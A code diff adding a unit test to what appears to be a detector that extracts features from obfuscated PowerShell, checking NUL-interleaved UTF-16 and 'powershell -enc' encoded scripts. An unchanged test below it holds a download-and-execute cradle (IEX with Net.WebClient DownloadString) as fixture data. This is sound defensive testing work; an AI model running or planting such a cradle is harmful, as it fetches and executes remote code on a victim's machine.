@@ -111,6 +111,21 @@ def test_deflate_wrapped_payload_is_inflated(extractor: PowerShellExtractor) -> 
     assert "deflatestream" in iocs
 
 
+def test_nul_interleaved_text_reads_like_its_clean_form(extractor: PowerShellExtractor) -> None:
+    """A UTF-16 script read as single bytes (``f\\0u\\0n...``), plain or re-launched
+    encoded, gets the features of the script itself."""
+    script = "function global:Get-LoggedOnUser { Get-CimInstance Win32_LoggedOnUser }"
+    interleaved = "".join(f"{c}\x00" for c in script)
+    encoded = "powershell -enc " + base64.b64encode(interleaved.encode("utf-16-le")).decode()
+    assert (
+        extractor.normalize([interleaved]).to_pylist() == extractor.normalize([script]).to_pylist()
+    )
+    clean = extractor.transform([script]).values[0]
+    np.testing.assert_array_equal(extractor.transform([interleaved]).values[0], clean)
+    analysis = extractor.analyze([encoded])
+    assert analysis.layers[0] == 1  # decoded as text, not left as a binary blob
+
+
 def test_nested_encoding_is_unwrapped(extractor: PowerShellExtractor) -> None:
     inner = "IEX (New-Object Net.WebClient).DownloadString('http://x')"
     once = "powershell -enc " + base64.b64encode(inner.encode("utf-16-le")).decode()
